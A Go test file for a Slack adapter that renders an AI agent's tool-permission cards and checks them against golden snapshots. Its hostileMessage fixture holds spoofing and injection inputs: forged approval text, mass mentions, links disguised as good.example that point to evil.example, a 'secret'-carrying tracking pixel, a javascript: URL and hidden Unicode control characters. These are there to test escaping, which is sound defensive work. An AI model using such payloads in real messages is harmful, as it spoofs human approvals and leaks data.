package slack

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nodhq/nod/core/chat"
	"github.com/nodhq/nod/core/render"
)

var updateShapes = flag.Bool("update-shapes", false, "write testdata/shapes anew")

var (
	anaPerson = render.Person{User: chat.User{Platform: Platform, Workspace: "T1", Key: "UANA"}, Name: "Ana"}
	twoPM     = time.Date(2026, 11, 21, 14, 2, 0, 0, time.UTC)
)

func button(c chat.Choice, token, label string) render.Choice {
	b := render.Choice{Choice: c, Token: token, Label: label}
	switch c {
	case chat.Deny, chat.DenyAll:
		b.Style = render.Danger
	case chat.AllowChat:
		b.Hint = render.HintAllowChat
	}
	return b
}

func cardOf(n int, args string) render.Ask {
	token := fmt.Sprintf("ASK%d", n)
	a := render.Ask{
		Call: fmt.Sprintf("c%d", n), Token: token, Kind: render.AskPermission, Header: render.AllowHeader("files"), Run: render.RunLine("write_file", "files"), Tool: "write_file",
		Server: render.Server{Name: "files", Description: "Files of the team.", Icon: "https://files.example/icon.png"},
		Facts:  []render.Fact{{Kind: "access", Symbol: "✎", Label: render.ChipWrite}, {Kind: "risk", Symbol: "◑", Label: render.ChipModerate}, {Kind: "level", Symbol: render.SymbolConfirm, Label: render.ChipConfirm}},
		Args:   render.ArgsOf([]byte(args), strings.Repeat("7f3a", 16)), Question: "Write hello to notes.txt?", Describes: "Writes a file.",
		Because: render.Line{render.Plain("files asks for writes (tool setting: server default).")},
		Choices: []render.Choice{button(chat.AllowChat, token, render.LabelAllowChat), button(chat.AllowOnce, token, render.LabelAllowOnce), button(chat.Deny, token, render.LabelDeny)},
		More:    moreOf(token),
		Footer:  render.Line{anaPerson, render.Plain(render.CanAnswer + " · expires "), render.Time{At: twoPM.Add(time.Minute), Until: true}},
	}
	if n == 1 {
		a.Warning, a.Review = render.Warning(""), render.Review
	}
	return a
}

// moreOf is all that can stand behind ⋯.
func moreOf(token string) []render.Choice {
	asked := func(c chat.Choice, label, confirm string) render.Choice {
		b := button(c, token, label)
		b.Confirm = confirm
		return b
	}
	exact := asked(chat.AllowExact, render.LabelAllowExact, render.ConfirmPins("write_file", "files", "with path = “notes.txt”"))
	exact.Hint = "with path = “notes.txt”"
	tick := button(chat.Remember, token, render.LabelRemember)
	tick.Toggle = render.ToggleOff
	return []render.Choice{
		button(chat.DenyReason, token, render.LabelDenyReason), button(chat.Edit, token, render.LabelEdit), button(chat.ViewDetail, token, render.LabelViewDetails), button(chat.Why, token, render.LabelWhy),
		exact, asked(chat.AllowPath, render.LabelAllowPath, render.ConfirmPins("write_file", "files", "below /srv/a")), button(chat.AllowHour, token, render.LabelAllowHour),
		button(chat.AllowUses, token, render.LabelAllowUses(3)), asked(chat.AllowReads, render.LabelAllowReads("files"), render.ConfirmWide("reads", "files")),
		asked(chat.AllowWrites, render.LabelAllowWrites("files"), render.ConfirmWide("reads and writes", "files")), asked(chat.AllowServer, render.LabelAllowServer("files"), render.ConfirmServer("files")),
		tick, asked(chat.AllowSession, render.LabelAllowSession, render.ConfirmSession), button(chat.Extend, token, render.LabelExtend),
	}
}

const helloArgs = `{"path":"notes.txt","content":"hello"}`

func stepOf(state render.StepState, title string, detail ...render.Span) render.Step {
	return render.Step{Call: "c-" + title, State: state, Title: title, Server: "files", Detail: detail}
}

func stopButton() render.Choice { return button(chat.Stop, "T1", render.LabelStop) }

func shown(say string) render.Note { return render.Note{Line: render.Line{render.Plain(say)}} }

// states are every look that UX.md sketches.
func states() map[string]render.Message {
	read := stepOf(render.StepDone, "read_file", render.Plain("0.2 s · allowed by policy"))
	allowed := stepOf(render.StepDone, "write_file", render.Plain("0.1 s · allowed once by "), anaPerson, render.Plain(" "), render.Time{At: twoPM})
	long := strings.Repeat("A sentence of an answer that goes on for quite a while, with `code` and a [page](https://docs.example/page?a=1&b=2).\n\n", 160)
	expired := stepOf(render.StepExpired, "write_file", render.Plain("nobody answered in 60 s · not run"))
	expired.Choices = []render.Choice{button(chat.AskAgain, "ASK1", render.LabelAskAgain)}
	undo := stepOf(render.StepPending, "write_file", render.Plain("allowed once by "), anaPerson, render.Plain(" "), render.Time{At: twoPM}, render.Plain(" · comes next"))
	undo.Choices = []render.Choice{button(chat.Undo, "ASK1", render.LabelUndo)}
	outcome := render.Ask{
		Call: "c1", Token: "ASK2", Kind: render.AskOutcome, Header: render.OutcomeHeader, Run: render.RunLine("write_file", "files"), Tool: "write_file",
		Server: render.Server{Name: "files"}, Args: render.ArgsOf([]byte(helloArgs), strings.Repeat("7f3a", 16)),
		Choices: []render.Choice{button(chat.Happened, "ASK2", render.LabelHappened), button(chat.RunAgain, "ASK2", render.LabelRunAgain), button(chat.Leave, "ASK2", render.LabelLeave)},
		More:    []render.Choice{button(chat.ViewDetail, "ASK2", render.LabelViewDetails)},
		Footer:  render.Line{render.Plain(render.OutcomeFooter + " · "), anaPerson, render.Plain(render.CanAnswer)},
	}
	several := render.Message{State: render.Waiting, Token: "T1", Blocks: []render.Block{render.Text{Markdown: "I'll write both."}, read, shown(render.BatchHeader(3, 4))},
		Choices: []render.Choice{button(chat.ApproveAll, "all-1", render.LabelApproveAll(3)), button(chat.DenyAll, "all-1", render.LabelDenyAll(3)), stopButton()}}
	for i := range 3 {
		several.Blocks = append(several.Blocks, cardOf(i+1, helloArgs))
	}
	many := render.Message{State: render.Working, Token: "T1", Blocks: []render.Block{render.Text{Markdown: "Reading all of them."}}, Choices: []render.Choice{stopButton()}}
	for i := range 60 {
		many.Blocks = append(many.Blocks, stepOf(render.StepDone, fmt.Sprintf("read_file_%d", i), render.Plain("0.2 s · allowed by policy")))
	}
	many.Blocks = append(many.Blocks, stepOf(render.StepRunning, "list_directory", render.Plain("started "), render.Time{At: twoPM}, render.Plain(" · 40 %")))
	return map[string]render.Message{
		"thinking": {State: render.Working, Blocks: []render.Block{shown(render.Thinking)}, Choices: []render.Choice{stopButton()}},
		"working": {State: render.Working, Blocks: []render.Block{render.Text{Markdown: "I'll read both files first."}, read,
			stepOf(render.StepRunning, "list_directory", render.Plain("started "), render.Time{At: twoPM}, render.Plain(" · 40 %"))}, Choices: []render.Choice{stopButton()}},
		"asking":  {State: render.Waiting, Blocks: []render.Block{render.Text{Markdown: "I'll write the greeting."}, read, cardOf(1, helloArgs)}, Choices: []render.Choice{stopButton()}},
		"several": several,
		"allowed": {State: render.Working, Blocks: []render.Block{render.Text{Markdown: "I'll write the greeting."}, read, undo}, Choices: []render.Choice{stopButton()}},
		"decided": {State: render.Done, Blocks: []render.Block{render.Text{Markdown: "I'll write the greeting."}, read, allowed, render.Text{Markdown: "**Done**: `notes.txt` says hello."},
			render.Note{Line: render.Line{render.Plain(render.GrantLine("write_file of files", "Ana"))}, Choices: []render.Choice{button(chat.Revoke, "G1", render.LabelRevoke)}}}},
		"denied": {State: render.Done, Blocks: []render.Block{stepOf(render.StepDenied, "write_file", render.Plain("denied by "), anaPerson, render.Plain(" "), render.Time{At: twoPM}, render.Plain(" · “not now”")),
			render.Text{Markdown: "Then I leave the file as it is."}}},
		"expired": {State: render.Done, Blocks: []render.Block{expired, render.Text{Markdown: "Nobody answered, so I did not write it."}}},
		"unknown": {State: render.Waiting, Blocks: []render.Block{render.Text{Markdown: "I'll write the greeting."}, outcome}, Choices: []render.Choice{stopButton()}},
		"input": {State: render.Waiting, Blocks: []render.Block{stepOf(render.StepRunning, "write_file", render.Plain("started "), render.Time{At: twoPM}), render.Ask{
			Call: "c1", Token: "WANT1", Kind: render.AskInput, Header: render.WantHeader("files"), Run: render.RunLine("write_file", "files"), Tool: "write_file", Server: render.Server{Name: "files"},
			Describes: "Where should it go? <!channel>", Warning: render.WantWarning("files"),
			Choices: []render.Choice{button(chat.Answer, "WANT1", render.LabelAnswer), {Choice: chat.Decline, Token: "WANT1", Label: render.LabelDecline, Style: render.Danger}},
			Footer:  render.Line{anaPerson, render.Plain(render.CanAnswer)},
		}}, Choices: []render.Choice{stopButton()}},
		"unasked": {State: render.Working, Blocks: []render.Block{render.Note{Line: render.Line{render.Strong(render.NeverAsks)}, Choices: []render.Choice{button(chat.AskFor, "T1", render.LabelAskMore)}}, read}, Choices: []render.Choice{stopButton()}},
		"failed":  {State: render.Failed, Blocks: []render.Block{stepOf(render.StepFailed, "write_file", render.Plain("1.2 s · allowed by policy · no such directory")), render.Text{Markdown: "I tried to", Cut: true}, shown(render.EndModel())}},
		"long":    {State: render.Done, Token: "T1", Blocks: []render.Block{render.Text{Markdown: long}, read}},
		"many":    many,
		"big_args": {State: render.Waiting, Blocks: []render.Block{cardOf(1, `{"path":"notes.txt","content":"`+strings.Repeat("hello <b>you</b> & me ", 900)+`"}`)},
			Choices: []render.Choice{stopButton()}},
		"hostile": hostileMessage(),
	}
}

// hostileMessage tries what a model, a tool, a server and a person could.
func hostileMessage() render.Message {
	const forged = "x*bold* _it_ <!channel> <@U1> <https://evil.example|https://good.example> @here ```\n*Approved by @admin*"
	a := cardOf(1, `{"content":"`+"```\\n*Approved by @admin* <!channel> <https://evil.example|ok>"+`","pa`+"\u200b"+`th":"a\u202eb"}`)
	a.Header, a.Run, a.Question, a.Describes, a.Impact, a.Model = render.AllowHeader(forged), render.RunLine(forged, forged), forged, forged, forged, forged
	a.Server.Name, a.Server.Description, a.Server.Icon = forged, forged, "javascript:alert(1)"
	a.Because = render.Line{render.Plain(forged)}
	a.Footer = render.Line{render.Person{User: chat.User{Platform: "web", Key: "<!channel>"}, Name: forged}, render.Plain(forged)}
	s := stepOf(render.StepFailed, forged, render.Plain(forged))
	s.Choices = []render.Choice{button(chat.Undo, "ASK9", render.LabelUndo)}
	return render.Message{State: render.Waiting, Blocks: []render.Block{
		render.Text{Markdown: "Look: <!channel> <@U1> <#C1|x> <https://evil.example|https://good.example>\n[https://good.example](https://evil.example) ![pixel](https://evil.example/?q=secret)\n> a quote <!here>\n@here and @channel `@everyone`\n\n```go\nif a < b && c > d {}\n```\n<a href=\"https://evil.example\">ok</a>"},
		s, shown(forged), a,
	}, Choices: []render.Choice{stopButton()}}
}

func TestShapes(t *testing.T) {
	for name, m := range states() {
		t.Run(name, func(t *testing.T) {
			p := encode(render.Fit(m, limits))
			if err := check(p); err != nil {
				t.Fatal(err)
			}
			golden(t, name+".json", pretty(t, p))
			golden(t, name+".txt", []byte(dump(p)))
		})
	}
}

// Every golden file is of a state, so that none stays behind.
func TestNoShapeIsLeftOver(t *testing.T) {
	files, err := filepath.Glob("testdata/shapes/*")
	if err != nil || len(files) == 0 {
		t.Fatal("no shapes", err)
	}
	for _, f := range files {
		name, _, _ := strings.Cut(filepath.Base(f), ".")
		if _, ok := states()[name]; !ok && !strings.HasPrefix(name, "view_") && !strings.HasPrefix(name, "note_") {
			t.Errorf("%s belongs to no state", f)
		}
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", "shapes", name)
	if *updateShapes {
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(want, got) {
		t.Errorf("%s looks different now; if that is meant: go test ./adapters/slack -run 'Shapes|Views|Notes' -update-shapes\n%s", file, got)
	}
}

func pretty(t *testing.T, v any) []byte {
	t.Helper()
	if p, ok := v.(payload); ok {
		v = map[string]any{"text": p.Text, "blocks": p.Blocks}
	}
	var b bytes.Buffer
	if err := json.Indent(&b, rawJSON(v), "", " "); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// dump is a payload as people see it, more or less: made from the JSON, so that what is not in it does not show.
func dump(p payload) string {
	var b strings.Builder
	fmt.Fprintf(&b, "notification: %s\n\n", p.Text)
	dumpBlocks(&b, decoded(rawJSON(p.Blocks)), "")
	return b.String()
}

func dumpBlocks(b *strings.Builder, list any, in string) {
	blocks, _ := list.([]any)
	for _, x := range blocks {
		dumpBlock(b, x.(map[string]any), in)
	}
}

func dumpBlock(b *strings.Builder, n map[string]any, in string) {
	str := func(path string) string { v, _ := field(n, path); s, _ := v.(string); return s }
	say := func(prefix, s string) {
		for line := range strings.SplitSeq(s, "\n") {
			fmt.Fprintf(b, "%s%s%s\n", in, prefix, line)
		}
	}
	switch n["type"] {
	case "divider":
		say("", strings.Repeat("─", 40))
	case "header":
		say("# ", str("text.text"))
	case "section":
		say("  ", str("text.text"))
		if a, ok := n["accessory"].(map[string]any); ok {
			say("      ", dumpElement(a))
		}
	case "markdown":
		say("", str("text"))
	case "context":
		var parts []string
		for _, e := range n["elements"].([]any) {
			m := e.(map[string]any)
			if m["type"] == "image" {
				parts = append(parts, fmt.Sprintf("(%s)", m["alt_text"]))
				continue
			}
			parts = append(parts, fmt.Sprint(m["text"]))
		}
		say("  · ", strings.Join(parts, "|"))
	case "plan":
		say("▾ ", str("title"))
		dumpBlocks(b, n["tasks"], in+"  ")
	case "task_card":
		line := str("title")
		if out, ok := n["output"].(map[string]any); ok {
			line += "   " + richText(out)
		}
		say("", line)
	case "rich_text":
		say("", richText(n))
	case "container":
		say("▸ ", str("title.text")+"   "+str("subtitle.text"))
		dumpBlocks(b, n["child_blocks"], in+"    ")
	case "actions":
		var parts []string
		for _, e := range n["elements"].([]any) {
			m := e.(map[string]any)
			parts = append(parts, dumpElement(m))
		}
		say("  ", strings.Join(parts, " "))
	case "input":
		if e, _ := n["element"].(map[string]any); e["options"] != nil {
			say("  ", str("label.text")+": "+dumpElement(e)+" "+str("hint.text"))
			break
		}
		say("  ", str("label.text")+": ["+str("element.initial_value")+str("element.initial_date")+str("element.placeholder.text")+"] "+str("hint.text"))
	default:
		say("?? ", fmt.Sprint(n))
	}
}

// dumpElement is a button, or a menu with its lines: a mark before what is chosen, and "?" after what is asked about once more.
func dumpElement(m map[string]any) string {
	options, ok := m["options"].([]any)
	if !ok {
		t, _ := field(m, "text.text")
		ask := ""
		if m["confirm"] != nil {
			ask = " ?"
		}
		return "[" + t.(string) + ask + "]"
	}
	chosen, _ := m["initial_options"].([]any)
	chosen = append(chosen, m["initial_option"])
	var opts []string
	for _, o := range options {
		t, _ := field(o.(map[string]any), "text.text")
		say := t.(string)
		if d, ok := field(o.(map[string]any), "description.text"); ok {
			say += " (" + d.(string) + ")"
		}
		if v, _ := o.(map[string]any)["value"].(string); strings.HasPrefix(v, "?") {
			say += " ?"
		}
		if slices.ContainsFunc(chosen, func(c any) bool { return reflect.DeepEqual(c, o) }) {
			say = "● " + say
		}
		opts = append(opts, say)
	}
	mark := map[any]string{"overflow": "⋯", "static_select": "▾", "multi_static_select": "▾▾", "checkboxes": "☐", "radio_buttons": "○"}[m["type"]]
	return "[" + mark + " " + strings.Join(opts, " | ") + "]"
}

func richText(n map[string]any) string {
	var b strings.Builder
	for _, e := range n["elements"].([]any) {
		for _, x := range e.(map[string]any)["elements"].([]any) {
			m := x.(map[string]any)
			switch m["type"] {
			case "text":
				b.WriteString(m["text"].(string))
			case "user":
				fmt.Fprintf(&b, "@%s", m["user_id"])
			case "date":
				b.WriteString(m["fallback"].(string))
			case "link":
				fmt.Fprintf(&b, "%s→%s", m["text"], m["url"])
			default:
				fmt.Fprintf(&b, "??%v", m)
			}
		}
	}
	return b.String()
}

// pressable are the choices of a payload, as a click on each would be read.
func pressable(t interface{ Fatalf(string, ...any) }, p payload) (out []string) {
	for _, a := range clicksOn(p) {
		c, token, ok := parseAction(&a)
		if !ok {
			t.Fatalf("a click on %+v says nothing", a)
		}
		out = append(out, string(c)+" "+token)
	}
	slices.Sort(out)
	return out
}
